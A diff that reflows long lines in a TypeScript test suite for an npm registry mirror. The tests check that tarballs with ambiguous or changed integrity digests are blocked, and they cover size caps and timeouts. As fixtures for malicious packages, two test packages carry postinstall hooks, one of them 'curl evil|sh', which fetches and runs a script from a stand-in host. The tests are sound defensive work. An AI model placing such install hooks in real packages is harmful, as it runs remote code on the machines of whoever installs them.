@@ -18,19 +18,26 @@ function filesUnder(dir: string): string[] {
     .map((e) => join(e.parentPath ?? (e as unknown as { path: string }).path, e.name));
 }
 
-const tarballRequests = (requests: readonly string[], file: string): number => requests.filter((r) => r.startsWith('GET ') && r.includes(`/-/${file}`)).length;
+const tarballRequests = (requests: readonly string[], file: string): number =>
+  requests.filter((r) => r.startsWith('GET ') && r.includes(`/-/${file}`)).length;
 
 test('an integrity naming two different sha512 digests is refused at first sight: blocked with a finding, never listed or served', async () => {
   const m = await startTestMirror({ now: NOW });
   try {
-    const payload = distOf(packTarball({ 'package.json': '{"name":"twin","version":"1.0.1","scripts":{"postinstall":"curl evil|sh"}}' })).integrity;
+    const payload = distOf(
+      packTarball({ 'package.json': '{"name":"twin","version":"1.0.1","scripts":{"postinstall":"curl evil|sh"}}' }),
+    ).integrity;
     m.upstream.publish('twin', '1.0.0', { time: NOW - 30 * DAY });
     const benign = m.upstream.publish('twin', '1.0.1', { time: NOW - HOUR });
     m.upstream.publish('twin', '1.0.1', { time: NOW - HOUR, dist: { integrity: `${benign.integrity} ${payload}` } });
     const old = m.upstream.publish('twin', '0.9.0', { time: NOW - 60 * DAY });
     m.upstream.publish('twin', '0.9.0', { time: NOW - 60 * DAY, dist: { integrity: `${payload} ${old.integrity}` } });
 
-    assert.deepEqual(await visibleVersions(`${m.mirror.url}twin`), ['1.0.0'], 'neither the young nor the old twin-digest version is listed');
+    assert.deepEqual(
+      await visibleVersions(`${m.mirror.url}twin`),
+      ['1.0.0'],
+      'neither the young nor the old twin-digest version is listed',
+    );
     for (const version of ['1.0.1', '0.9.0']) {
       const record = (await m.mirror.runtime.store.versions.versionOf('twin', version))!;
       assert.equal(record.state, 'blocked', version);
@@ -38,9 +45,14 @@ test('an integrity naming two different sha512 digests is refused at first sight
       const res = await fetch(`${m.mirror.url}twin/-/twin-${version}.tgz`);
       assert.equal(res.status, 403, version);
       assert.equal(((await res.json()) as { code: string }).code, 'BLOCKED');
-      const status = (await (await fetch(`${m.mirror.url}-/cordon/api/v1/packages/twin`)).json()) as { versions: Array<{ version: string; findings: Array<{ rule: string; severity: string }> }> };
+      const status = (await (await fetch(`${m.mirror.url}-/cordon/api/v1/packages/twin`)).json()) as {
+        versions: Array<{ version: string; findings: Array<{ rule: string; severity: string }> }>;
+      };
       const findings = status.versions.find((v) => v.version === version)!.findings;
-      assert.deepEqual(findings.map((f) => [f.rule, f.severity]), [['integrity/ambiguous-digest', 'critical']]);
+      assert.deepEqual(
+        findings.map((f) => [f.rule, f.severity]),
+        [['integrity/ambiguous-digest', 'critical']],
+      );
     }
     await m.mirror.pipeline.drain();
     m.clock.advance(30 * DAY);
@@ -75,10 +87,17 @@ test('a later packument that no longer shows exactly the pinned digest blocks th
     for (const name of names) {
       const record = (await m.mirror.runtime.store.versions.versionOf(name, '1.0.0'))!;
       assert.equal(record.state, 'blocked', name);
-      assert.ok((await m.mirror.runtime.store.audit.ofPackage(name)).some((e) => e.version === '1.0.0' && e.cause === 'integrity-changed'), name);
+      assert.ok(
+        (await m.mirror.runtime.store.audit.ofPackage(name)).some((e) => e.version === '1.0.0' && e.cause === 'integrity-changed'),
+        name,
+      );
       assert.equal((await fetch(`${m.mirror.url}${name}/-/${name}-1.0.0.tgz`)).status, 403, name);
     }
-    assert.equal((await m.mirror.runtime.store.versions.versionOf('steady', '1.0.0'))!.state, 'released', 'an unchanged digest changes nothing');
+    assert.equal(
+      (await m.mirror.runtime.store.versions.versionOf('steady', '1.0.0'))!.state,
+      'released',
+      'an unchanged digest changes nothing',
+    );
   } finally {
     await m.stop();
   }
@@ -112,7 +131,11 @@ test('tarballs come from the verified store: a corrupted stored file is detected
       assert.equal(again.status, 200);
       assert.deepEqual(Buffer.from(await again.arrayBuffer()), published.tarball, 'the good bytes, fetched again');
       assert.equal(tarballRequests(m.upstream.requests, 'tgz-1.0.0.tgz'), 2);
-      assert.equal((await m2.mirror.runtime.store.versions.versionOf('tgz', '1.0.0'))!.state, 'released', 'a bad disk is not a bad package');
+      assert.equal(
+        (await m2.mirror.runtime.store.versions.versionOf('tgz', '1.0.0'))!.state,
+        'released',
+        'a bad disk is not a bad package',
+      );
     } finally {
       await m2.stop();
       rmSync(dataDir, { recursive: true, force: true });
@@ -128,7 +151,10 @@ test('upstream bytes that contradict the pin are a 502 naming the version and bl
     m.upstream.publish('swap', '1.0.0', { time: NOW - 30 * DAY });
     m.upstream.publish('swap', '1.1.0', { time: NOW - 20 * DAY });
     assert.deepEqual(await visibleVersions(`${m.mirror.url}swap`), ['1.0.0', '1.1.0']);
-    m.upstream.tarballOverrides.set('swap-1.1.0.tgz', packTarball({ 'package.json': '{"name":"swap","version":"1.1.0","scripts":{"postinstall":"node x"}}' }));
+    m.upstream.tarballOverrides.set(
+      'swap-1.1.0.tgz',
+      packTarball({ 'package.json': '{"name":"swap","version":"1.1.0","scripts":{"postinstall":"node x"}}' }),
+    );
     const res = await fetch(`${m.mirror.url}swap/-/swap-1.1.0.tgz`);
     assert.equal(res.status, 502);
     const body = (await res.json()) as { code: string; error: string; package: string; version: string };
@@ -136,7 +162,11 @@ test('upstream bytes that contradict the pin are a 502 naming the version and bl
     assert.match(body.error, /swap@1\.1\.0/);
     const record = (await m.mirror.runtime.store.versions.versionOf('swap', '1.1.0'))!;
     assert.equal(record.state, 'blocked');
-    assert.ok((await m.mirror.runtime.store.audit.ofPackage('swap')).some((e) => e.version === '1.1.0' && e.cause === 'integrity-mismatch' && e.toState === 'blocked'));
+    assert.ok(
+      (await m.mirror.runtime.store.audit.ofPackage('swap')).some(
+        (e) => e.version === '1.1.0' && e.cause === 'integrity-mismatch' && e.toState === 'blocked',
+      ),
+    );
     assert.equal((await fetch(`${m.mirror.url}swap/-/swap-1.1.0.tgz`)).status, 403, 'from then on it is refused');
     assert.deepEqual(await visibleVersions(`${m.mirror.url}swap`), ['1.0.0']);
     assert.deepEqual(filesUnder(join(dataPaths(m.dataDir).blobs, 'tmp')), [], 'nothing of the bad download is left');
@@ -151,7 +181,11 @@ test('50 parallel first requests for one tarball download it once and all get th
     const published = m.upstream.publish('hot', '1.0.0', { time: NOW - 30 * DAY, files: { 'data.bin': randomBytes(300_000) } });
     await fetch(`${m.mirror.url}hot`);
     m.upstream.tarballDelayMs = 100;
-    const answers = await Promise.all(Array.from({ length: 50 }, () => fetch(`${m.mirror.url}hot/-/hot-1.0.0.tgz`).then(async (r) => ({ status: r.status, bytes: Buffer.from(await r.arrayBuffer()) }))));
+    const answers = await Promise.all(
+      Array.from({ length: 50 }, () =>
+        fetch(`${m.mirror.url}hot/-/hot-1.0.0.tgz`).then(async (r) => ({ status: r.status, bytes: Buffer.from(await r.arrayBuffer()) })),
+      ),
+    );
     assert.deepEqual([...new Set(answers.map((a) => a.status))], [200]);
     for (const a of answers) assert.ok(a.bytes.equals(published.tarball));
     assert.equal(tarballRequests(m.upstream.requests, 'hot-1.0.0.tgz'), 1);
@@ -171,7 +205,10 @@ test('an endless upstream tarball is cut off at the size cap, a stalled one at t
     const clients = await Promise.all([1, 2, 3].map(() => fetch(`${m.mirror.url}endless/-/endless-1.0.0.tgz`)));
     for (const res of clients) {
       assert.equal(res.status, 502);
-      assert.match(((await res.json()) as { error: string }).error, /endless@1\.0\.0.*more than the 1048576 bytes allowed \(maxTarballSize\)/);
+      assert.match(
+        ((await res.json()) as { error: string }).error,
+        /endless@1\.0\.0.*more than the 1048576 bytes allowed \(maxTarballSize\)/,
+      );
     }
     m.upstream.tarballDelayMs = 10_000;
     const stalled = await fetch(`${m.mirror.url}stalled/-/stalled-1.0.0.tgz`);
@@ -179,7 +216,11 @@ test('an endless upstream tarball is cut off at the size cap, a stalled one at t
     assert.match(((await stalled.json()) as { error: string }).error, /stalled@1\.0\.0.*did not answer within 2000 ms/);
     const blobs = dataPaths(m.dataDir).blobs;
     assert.deepEqual(filesUnder(blobs), [], 'no partial file, no stored file');
-    assert.equal((await m.mirror.runtime.store.versions.versionOf('endless', '1.0.0'))!.state, 'released', 'a size cap is not a verdict on the bytes');
+    assert.equal(
+      (await m.mirror.runtime.store.versions.versionOf('endless', '1.0.0'))!.state,
+      'released',
+      'a size cap is not a verdict on the bytes',
+    );
   } finally {
     m.upstream.tarballDelayMs = 0;
     await m.stop();
